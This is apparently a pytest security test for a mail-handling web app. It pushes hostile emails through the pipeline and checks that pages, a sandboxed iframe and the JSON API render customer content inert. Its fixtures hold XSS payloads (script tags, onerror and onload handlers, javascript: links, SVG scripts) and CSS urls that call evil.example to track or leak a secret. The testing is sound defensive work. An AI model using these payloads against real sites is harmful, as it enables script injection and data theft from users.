"""Customer content is hostile: every page that shows it must leave it inert.

A corpus of hostile mails goes through the real pipeline; the queue and each message page
are then parsed as a browser would, and no script, event handler, `javascript:` link,
inline style or remote resource may come from the customer, in the page or in the
sanitised HTML of the mail's sandboxed iframe. (tests/test_web_browser.py opens the same
kind of mails in Chromium and watches for dialogs and requests.)"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from conftest import make_mail
from starlette.testclient import TestClient
from webclient import add_team, log_in, seed

from extractors.htmlpart import MailHtml
from rpa.config import load_settings
from rpa.store import Store
from rpa.web import create_app
from rpa.web.sanitise import sanitise_mail

SCRIPT = "<script>document.title='pwned';alert(1)</script>"
HOSTILE_HTML = f"""<html><head><style>@import url(http://evil.example/x.css); body{{background:url(http://evil.example/bg)}}</style></head>
<body onload="alert(1)"><p>Bonjour {SCRIPT}</p>
<img src=x onerror="alert(1)"><img src="http://evil.example/track.png"><img src="cid:logo@x">
<a href="javascript:alert(1)">voir</a> <a href="https://www.example.org/ok">lien</a>
<div style="background:url(http://evil.example/leak?{{secret}})">style</div>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name=x></form>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
</body></html>"""


def hostile_mails() -> list[tuple[str, bytes]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    return [
        (
            "subject.eml",
            make_mail(
                f"Mon contrat HAB-1234-22. {SCRIPT} <img src=x onerror=alert(1)>",
                subject='"><script>alert(1)</script><img src=x onerror=alert(1)>',
                sender='"<img src=x onerror=alert(1)>" <evil@example.fr>',
                message_id="<hostile-1@example.fr>",
            ),
        ),
        (
            "html.eml",
            make_mail(
                html=HOSTILE_HTML, subject="Sinistre <b>urgent</b>", message_id="<hostile-2@example.fr>"
            ),
        ),
        (
            "names.eml",
            make_mail(
                "Voir les pièces jointes.",
                subject="Pièces jointes",
                message_id="<hostile-3@example.fr>",
                attachments=[
                    ("<img src=x onerror=alert(1)>.pdf", "application/pdf", b"%PDF-1.4 broken"),
                    ("dessin.svg", "image/svg+xml", svg),
                ],
            ),
        ),
    ]


class _Page(HTMLParser):
    """What a browser would run or fetch: scripts, handlers, styles, URLs of other hosts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[dict] = []
        self.handlers: list[tuple[str, str]] = []
        self.styles: list[str] = []
        self.urls: list[str] = []
        self.srcdocs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self.scripts.append(values)
        if tag == "style":
            self.styles.append("<style>")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name == "style":
                self.styles.append(value or "")
            if name in ("href", "src", "action", "xlink:href", "formaction") and value:
                self.urls.append(value)
            if name == "srcdoc":
                self.srcdocs.append(value or "")


def _inspect(html: str) -> _Page:
    parser = _Page()
    parser.feed(html)
    return parser


def _assert_inert(page: _Page, *, own_scripts: bool) -> None:
    expected = [
        {"src": "/static/vendor/htmx.min.js", "defer": None},
        {"src": "/static/app.js", "defer": None},
    ]
    assert page.scripts == (expected if own_scripts else [])
    assert page.handlers == []
    assert page.styles == []
    for url in page.urls:
        lowered = url.strip().lower()
        assert not lowered.startswith(("javascript:", "vbscript:", "data:text")), url
        assert not lowered.startswith("http://evil"), url


@pytest.fixture(scope="module")
def hostile_workspace(tmp_path_factory: pytest.TempPathFactory):  # noqa: ANN201
    home = tmp_path_factory.mktemp("hostile")
    settings = load_settings(environ={"RPA_HOME": str(home), "RPA_PIPELINE_WORKERS": "1"})
    store = Store.open(settings)
    add_team(store)
    ids = seed(settings, store, hostile_mails())
    client = TestClient(create_app(settings, store))
    log_in(client, "sam")
    yield client, ids
    store.close()


def test_the_queue_shows_hostile_subjects_and_names_as_text(hostile_workspace) -> None:  # noqa: ANN001
    client, _ = hostile_workspace
    html = client.get("/queue").text
    _assert_inert(_inspect(html), own_scripts=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize("source", ["subject.eml", "html.eml", "names.eml"])
def test_a_hostile_message_page_runs_and_fetches_nothing_of_the_customer(hostile_workspace, source) -> None:  # noqa: ANN001
    client, ids = hostile_workspace
    html = client.get(f"/messages/{ids[source]}").text
    page = _inspect(html)
    _assert_inert(page, own_scripts=True)
    formatted = _inspect(client.get(f"/messages/{ids[source]}/formatted").text)
    _assert_inert(formatted, own_scripts=True)
    assert len(formatted.srcdocs) == (1 if source == "html.eml" else 0)
    for document in formatted.srcdocs:  # the sanitised mail, as the iframe will parse it
        _assert_inert(_inspect(document), own_scripts=False)
        assert "evil.example" not in document


def test_the_sanitised_mail_keeps_text_and_safe_links_and_inlines_its_own_pictures() -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"0" * 20
    safe = sanitise_mail(MailHtml(HOSTILE_HTML, {"logo@x": ("image/png", png)}), "/static/mail.css")
    page = _inspect(safe.html)
    _assert_inert(page, own_scripts=False)
    assert "Bonjour" in safe.html and 'href="https://www.example.org/ok"' in safe.html
    assert any(url.startswith("data:image/png;base64,") for url in page.urls)
    assert safe.blocked_images >= 2  # the tracker and the broken one
    assert "<iframe" not in safe.html and "<form" not in safe.html and "<svg" not in safe.html


def test_the_message_iframe_is_sandboxed_without_scripts_or_same_origin(hostile_workspace) -> None:  # noqa: ANN001
    client, ids = hostile_workspace
    html = client.get(f"/messages/{ids['html.eml']}/formatted", headers={"HX-Request": "true"}).text
    assert html.count("<iframe") == 1 and '<iframe class="mail-frame" sandbox=""' in html
    assert "allow-scripts" not in html and "allow-same-origin" not in html


def test_an_svg_attachment_is_never_drawn_in_the_page(hostile_workspace) -> None:  # noqa: ANN001
    client, ids = hostile_workspace
    page = client.get(f"/messages/{ids['names.eml']}").text
    assert "/pages/1.png" not in page.split("dessin.svg", 1)[1].split("</section>", 1)[0]


def test_hostile_text_stays_text_in_the_json_api(hostile_workspace) -> None:  # noqa: ANN001
    client, ids = hostile_workspace
    answer = client.get(f"/api/messages/{ids['subject.eml']}")
    assert answer.headers["content-type"].startswith("application/json")
    assert answer.json()["draft"] is not None
